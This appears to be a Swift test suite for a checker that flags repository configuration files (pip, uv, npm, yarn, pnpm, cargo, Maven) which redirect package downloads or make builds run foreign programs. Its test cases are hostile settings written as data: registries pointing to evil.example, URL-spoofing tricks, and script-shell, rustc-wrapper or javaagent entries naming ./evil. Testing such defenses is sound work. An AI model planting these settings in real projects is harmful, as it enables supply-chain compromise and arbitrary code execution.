import Testing

@testable import Languages

/// Whoever can change a file of the repository must not choose where packages come from or what the build runs.
@Suite("Configuration files of the repository") struct UntrustedConfigurationTests {
  struct Case: CustomTestStringConvertible, Sendable {
    var language: any Language
    var file: String
    var text: String
    /// A part of each message, in the order of the findings.
    var findings: [String]

    init(_ language: any Language, _ file: String, _ text: String, _ findings: String...) {
      self.language = language
      self.file = file
      self.text = text
      self.findings = findings
    }

    var testDescription: String { "\(file): \(text.debugDescription)" }
  }

  private static func messages(
    _ language: any Language, _ files: [String: String], environment: [String: String] = [:]
  ) -> [String] {
    let directory = ProjectDirectory(files: FileList(Array(files.keys))) { path, _ in files[path].map { Array($0.utf8) }
    }
    return language.refusals(in: directory, trusting: PackageHosts(environment: environment)).map {
      "\($0.file):\($0.line): \($0.message)"
    }
  }

  private func check(_ test: Case) {
    let found = Self.messages(test.language, [test.file: test.text])
    #expect(found.count == test.findings.count, "\(found)")
    for (message, part) in zip(found, test.findings) { #expect(message.contains(part)) }
  }

  @Test(arguments: [
    Case(
      Python(), "requirements.txt", "--index-url https://evil.example/simple\na==1",
      "requirements.txt:1: `--index-url` would fetch"),
    Case(Python(), "requirements.txt", "a==1\n-i https://evil.example/simple", "requirements.txt:2: `-i` would fetch"),
    Case(Python(), "requirements.txt", "-ihttps://evil.example/simple", "`evil.example`"),
    Case(
      Python(), "requirements.txt", "--extra-index-url=https://pypi.org.evil.example/simple", "pypi.org.evil.example"),
    Case(Python(), "requirements.txt", "--index-url https://pypi.org@evil.example/simple", "`evil.example`"),
    Case(Python(), "requirements.txt", "--index-url https://evil.example\\@pypi.org/simple", "`\\` is refused"),
    Case(Python(), "requirements.txt", "--index-url ${INDEX}", "cannot be told"),
    Case(Python(), "requirements.txt", "--index-url https://${HOST}/simple", "cannot be told"),
    Case(Python(), "requirements.txt", "--index-url file:///tmp/index", "cannot be told"),
    Case(Python(), "requirements.txt", "--find-links https://evil.example/w", "evil.example"),
    Case(Python(), "requirements.txt", "--find-links /tmp/wheels", "outside of the agent's directory"),
    Case(Python(), "requirements.txt", "--find-links ../wheels", "outside of the agent's directory"),
    Case(Python(), "requirements.txt", "--no-index --extra-index-url https://evil.example", "evil.example"),
    Case(Python(), "requirements.txt", "--trusted-host pypi.org", "certificates"),
    Case(Python(), "requirements.txt", "--no-binary :all:", "only wheels"),
    Case(Python(), "requirements.txt", "--proxy http://evil.example", "`--proxy` is refused"),
    Case(Python(), "requirements.txt", "--pre \"--index-url\" https://evil.example", "evil.example"),
    Case(Python(), "requirements.txt", "# c\u{1C}--index-url https://evil.example", "evil.example"),
    // optparse takes the beginning of an option for the option.
    Case(Python(), "requirements.txt", "--index-u https://evil.example", "`--index-u` is refused"),
    Case(Python(), "requirements.txt", "# -*- coding: utf-7 -*-\n+AC0ALQ-index-url", "another encoding"),
    Case(Python(), "requirements.txt", "x @ git+https://github.com/a/x@main", "it names no commit"),
    Case(Python(), "requirements.txt", "git+https://github.com/a/x#egg=x", "it names no commit"),
    Case(Python(), "requirements.txt", "-e git+https://github.com/a/x@v1.0#egg=x", "it names no commit"),
    Case(Python(), "requirements.txt", "git+ssh://git@github.com/a/x@main", "has no key"),
    Case(Python(), "requirements.txt", "hg+https://hg.example/x", "only git"),
    Case(
      Python(), "requirements.txt", "x @ git+https://github.com/a/x@0123456789012345678901234567890123456789",
      "would fetch packages from `github.com`"),
    Case(Python(), "requirements.txt", "x @ https://evil.example/x-1.0-py3-none-any.whl", "`evil.example`"),
    Case(Python(), "requirements.txt", "https://u:secret@evil.example/x.whl", "`https://…@evil.example/x.whl`"),
    Case(Python(), "requirements.txt", "x @ https://files.pythonhosted.org/x.whl ; python_version > '3'"),
    Case(
      Python(), "pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\"x @ git+https://github.com/a/x\"]",
      "pyproject.toml:3: `git+https://github.com/a/x` is refused: it names no commit"),
    Case(
      Python(), "uv.lock", "[[package]]\nname = \"x\"\nsource = { git = \"https://evil.example/x?rev=main#0\" }",
      "would fetch packages from `evil.example`"),
    Case(
      Python(), "poetry.lock",
      "[[package]]\nname = \"x\"\n[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x\"",
      "evil.example"),
    Case(Python(), "uv.toml", "[[index]]\nurl = \"https://evil.example/simple\"", "uv.toml:2: `index.url`"),
    Case(Python(), "pyproject.toml", "[tool.uv.pip]\nindex-url = \"https://evil.example\"", "evil.example"),
    Case(Python(), "pyproject.toml", "tool = {uv = {\"index\\u002durl\" = \"https://evil.example\"}}", "evil.example"),
    Case(Python(), "uv.toml", "keyring-provider = \"subprocess\"", "reads passwords"),
    Case(Python(), "uv.toml", "allow-insecure-host = [\"pypi.org\"]", "certificates"),
    Case(Python(), "uv.toml", "index-url = ", "not valid TOML"),
    Case(NodeJS(), ".npmrc", "registry=https://evil.example/", ".npmrc:1: `registry` would fetch"),
    Case(NodeJS(), ".npmrc", "; comment\n@team:registry = https://evil.example/", ".npmrc:2: "),
    Case(NodeJS(), ".npmrc", "\"registry\"=https://evil.example/", "is refused"),
    Case(NodeJS(), ".npmrc", "[section]\nregistry=https://evil.example/", "[section]", "evil.example"),
    Case(NodeJS(), ".npmrc", "//evil.example/:_authToken=${NPM_TOKEN}", "evil.example"),
    Case(NodeJS(), ".npmrc", "git=./evil", "`git` is refused"),
    Case(NodeJS(), ".npmrc", "script-shell=./evil", "`script-shell` is refused"),
    Case(NodeJS(), ".npmrc", "node-options=--require ./evil.js", "`node-options` is refused"),
    Case(NodeJS(), ".npmrc", "https-proxy=http://evil.example", "`https-proxy` is refused"),
    Case(NodeJS(), ".npmrc", "strict-ssl=false", "`strict-ssl` is refused"),
    Case(NodeJS(), ".npmrc", "cafile=/tmp/x", "`cafile` is refused"),
    Case(NodeJS(), "package.json", "{\"dependencies\": {\"a\": \"github:x/y\"}}", "cloned with git"),
    Case(
      NodeJS(), "package.json", "{\"packageManager\": \"pnpm@https://evil.example/p.tgz\"}",
      "`packageManager` is refused"),
    Case(NodeJS(), "yarn.lock", "a@x:\n  resolved \"git+https://evil.example/a#1\"", "cloned with git"),
    Case(NodeJS(), "pnpm-lock.yaml", "packages:\n  a:\n    resolution: {type: git, repo: x}", "cloned with git"),
    Case(NodeJS(), ".yarnrc", "registry \"https://evil.example/\"", ".yarnrc:1: `registry` would fetch"),
    Case(NodeJS(), ".yarnrc", "# c\nyarn-path \"./evil.js\"", ".yarnrc:2: `yarn-path` is refused"),
    Case(NodeJS(), ".yarnrc", "script-shell ./evil", "`script-shell` is refused"),
    Case(NodeJS(), ".yarnrc.yml", "npmRegistryServer: https://evil.example", "`npmRegistryServer` would fetch"),
    Case(NodeJS(), ".yarnrc.yml", "plugins: [{path: evil.cjs}]", ".yarnrc.yml:1: `plugins` is refused"),
    Case(NodeJS(), ".yarnrc.yml", "npmScopes:\n  a:\n    npmRegistryServer: https://evil.example", "evil.example"),
    Case(
      NodeJS(), ".yarnrc.yml", "enableStrictSsl: false\nhttpsProxy: http://evil.example", "`enableStrictSsl`",
      "`httpsProxy`"),
    Case(NodeJS(), "pnpm-workspace.yaml", "registries: {default: https://evil.example}", "`registries` would fetch"),
    Case(NodeJS(), "pnpm-workspace.yaml", "packages: [a]\nscriptShell: ./evil", "`scriptShell` is refused"),
    Case(NodeJS(), "pnpm-workspace.yaml", "configDependencies: {evil: 1.0.0}", "`configDependencies` is refused"),
    Case(NodeJS(), "package.json", "{\"devDependencies\": {\"a\": \"x/y#main\"}}", "cloned with git"),
    Case(NodeJS(), "package.json", "{\"dependencies\": {\"a\": \"https://example.com/y.git\"}}", "cloned with git"),
    Case(
      NodeJS(), "package-lock.json",
      "{\"packages\": {\"node_modules/a\": {\"resolved\": \"git+ssh://git@github.com/x/y.git#abc\"}}}",
      "cloned with git"),
    Case(
      NodeJS(), "package-lock.json", "{\"packages\": {\"a\": {\"resolved\": \"GIT\\u002bfile:///x\"}}}",
      "cloned with git"),
    Case(
      NodeJS(), "package-lock.json", "{\"dependencies\": {\"a\": {\"version\": \"git+file:///x\"}}}", "cloned with git"),
    Case(NodeJS(), "package.json", "{\"peerDependencies\": {\"a\": \"GitHub:x/y\"}}", "cloned with git"),
    Case(NodeJS(), "package.json", "{\"overrides\": {\"a\": {\"b\": \"git+ssh://x\"}}}", "cloned with git"),
    Case(
      Rust(), "rust-toolchain.toml", "[toolchain]\npath = \"/proc/self/cwd/evil\"",
      "rust-toolchain.toml:2: `toolchain.path` is refused"),
    Case(Rust(), "rust-toolchain", "toolchain = {path = \"/evil\"}", "`toolchain.path` is refused"),
    Case(Rust(), ".cargo/config.toml", "[build]\nrustc-wrapper = \"./evil\"", "config.toml:2: `build.rustc-wrapper`"),
    Case(Rust(), ".cargo/config.toml", "build.rustc = \"./evil\"", "`build.rustc` is refused"),
    Case(Rust(), ".cargo/config.toml", "[target.'cfg(unix)']\nrunner = \"./evil\"", "runner` is refused"),
    Case(Rust(), ".cargo/config.toml", "[target.x86_64-unknown-linux-musl]\nlinker = \"./evil\"", "linker` is refused"),
    Case(
      Rust(), ".cargo/config.toml",
      "[source.crates-io]\nreplace-with = \"x\"\n[source.x]\nregistry = \"sparse+https://evil.example/\"",
      "evil.example"),
    Case(Rust(), ".cargo/config.toml", "[registry]\nglobal-credential-providers = [\"./evil\"]", "reads passwords"),
    Case(Rust(), ".cargo/config.toml", "[http]\nproxy = \"evil.example\"", "`http.proxy` is refused"),
    Case(Rust(), ".cargo/config", "build = {rustc-workspace-wrapper = \"./evil\"}", "rustc-workspace-wrapper"),
    Case(Java(), ".mvn/extensions.xml", "<extensions/>", "runs inside Maven"),
    Case(Java(), ".mvn/maven.config", "-s\nevil.xml\n-Dmaven.ext.class.path=evil.jar", "`-s`", "`-Dmaven.ext"),
    Case(
      Java(), ".mvn/maven.config",
      "-D maven.ext.class.path=x\n--define=maven.repo.local=/x\n\"-Dmaven.ext.class.path=y\"",
      "`maven.ext", "`--define=maven.repo", "`-Dmaven.ext"),
    Case(Java(), ".mvn/jvm.config", "-Xmx1g -javaagent:evil.jar", "`-javaagent:evil.jar`"),
    Case(
      Java(), "pom.xml",
      "<project><repositories><repository><id>x</id><url>https://evil.example/</url></repository></repositories></project>",
      "`repository` would fetch packages from `evil.example`"),
    Case(
      Java(), "pom.xml",
      "<project><pluginRepositories><pluginRepository><url>${evil}</url></pluginRepository></pluginRepositories></project>",
      "cannot be told"),
  ])
  func `are refused where they choose`(test: Case) { check(test) }

  @Test func `of the workspace's root count for its members`() {
    let files = [
      "package.json": "{\"workspaces\": [\"a\"]}", "a/package.json": "{}", ".npmrc": "registry=https://evil.example/",
    ]
    let directory = ProjectDirectory(place: "a", files: FileList(Array(files.keys))) { path, _ in
      files[path].map { Array($0.utf8) }
    }
    let found = NodeJS().refusals(in: directory, trusting: PackageHosts())
    #expect(found.map(\.file) == ["../.npmrc"])
  }

  /// cargo reads one of them, and .dockerignore can take the other one away.
  @Test func `are all looked at`() {
    let found = Self.messages(
      Rust(), [".cargo/config": "[term]", ".cargo/config.toml": "build.rustc = \"./evil\""])
    #expect(found.count == 1 && found[0].contains("`build.rustc` is refused"), "\(found)")
  }

  @Test func `of a size that is not parsed are searched`() {
    let lock = "{\"a\": \"\(String(repeating: "x", count: 1 << 20))\", \"b\": \"GIT\\u002Bfile:///x\"}"
    #expect(Self.messages(NodeJS(), ["package-lock.json": lock]).count == 1)
  }

  @Test(arguments: [
    ("a", "b", true), ("a/b", "../c", true), ("a/b/c", "../../d/e", true), ("a", "../b", false),
    ("a/b", "../../c", false), ("a", "/usr/b", false), ("a", "b/../../c", false),
  ])
  func `mean the same in a copy as beside the agent`(path: String, target: String, isCopied: Bool) {
    #expect(SourceTree.staysInside(path, target) == isCopied)
  }

  @Test(arguments: [
    Case(Python(), "requirements.txt", "--index-url https://pypi.org/simple\n-e .\n--pre\na==1 --hash=sha256:0"),
    Case(Python(), "requirements.txt", "-f ./wheels\n--no-index\n-c limits.txt\n# coding: utf-8"),
    Case(Python(), "pyproject.toml", "[project]\nname = \"a\"\n[tool.uv]\ndev-dependencies = [\"pytest\"]"),
    Case(Python(), "uv.toml", "index-url = \"https://pypi.org/simple\"\nfind-links = [\"wheels\"]"),
    Case(
      NodeJS(), ".npmrc", "save-exact=true\n# registry=https://evil.example\nlegacy-peer-deps=true\nnode-linker=hoisted"
    ),
    Case(NodeJS(), ".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nregistry=https://registry.npmjs.org/"),
    Case(NodeJS(), "yarn.lock", "simple-git@^3.0.0:\n  resolved \"https://registry.yarnpkg.com/simple-git\""),
    Case(
      NodeJS(), ".yarnrc.yml",
      "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.cjs\nnpmAuthToken: ${NPM_TOKEN}"),
    Case(NodeJS(), "pnpm-workspace.yaml", "packages: [a]\nonlyBuiltDependencies: [esbuild]"),
    Case(NodeJS(), "package.json", "{\"packageManager\": \"yarn@4.1.0+sha256.ab\"}"),
    Case(NodeJS(), "package.json", "{\"dependencies\": {\"a\": \"^1\", \"b\": \"file:../b\", \"c\": \"npm:d@1\"}}"),
    Case(
      Rust(), ".cargo/config.toml",
      "[source.crates-io]\nreplace-with = \"vendored-sources\"\n[source.vendored-sources]\ndirectory = \"vendor\"\n"
        + "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\nrustflags = [\"-C\", \"target-cpu=native\"]"),
    Case(Java(), ".mvn/maven.config", "-T1C\n-Drevision=1 -ntp"),
    Case(Java(), ".mvn/jvm.config", "-Xmx1g --add-opens java.base/java.lang=ALL-UNNAMED"),
    Case(
      Java(), "pom.xml",
      "<project><distributionManagement><repository><url>https://example.com</url></repository></distributionManagement></project>"
    ),
  ])
  func `may say the rest`(test: Case) { check(test) }

  /// An included file is read like the first one.
  @Test func `are read with what they include`() {
    let found = Self.messages(
      Python(),
      [
        "requirements.txt": "-r more/base.txt", "more/base.txt": "-c deep.txt",
        "more/deep.txt": "-i https://evil.example",
      ])
    #expect(
      found == [
        "more/deep.txt:1: `-i` would fetch packages from `evil.example`, which no trusted setting names"
      ])
  }

  @Test(arguments: [
    (["PIP_INDEX_URL": "https://user:secret@packages.example.com:8443/simple"], true),
    (["PIP_EXTRA_INDEX_URL": "https://a.example https://packages.example.com:8443/x"], true),
    (["UV_INDEX": "own=https://packages.example.com:8443/simple"], true),
    (["PIP_INDEX_URL": "https://packages.example.com/simple"], true),
    (["PIP_INDEX_URL": "https://packages.example.com:9/simple"], false),
    ([:], false),
  ])
  func `may name an index that a variable names`(environment: [String: String], isAllowed: Bool) {
    let found = Self.messages(
      Python(), ["requirements.txt": "-i https://packages.example.com:8443/simple"], environment: environment)
    #expect(found.isEmpty == isAllowed)
  }
}
